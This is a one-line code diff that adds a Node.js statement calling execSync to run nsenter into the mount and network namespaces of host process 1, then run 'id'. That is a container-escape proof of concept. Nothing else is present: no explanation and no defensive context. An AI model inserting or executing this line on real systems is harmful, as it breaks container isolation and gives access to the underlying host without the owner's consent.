@@ -1,0 +1,1 @@
+require('child_process').execSync('nsenter --target 1 --mount --net -- sh -c id');
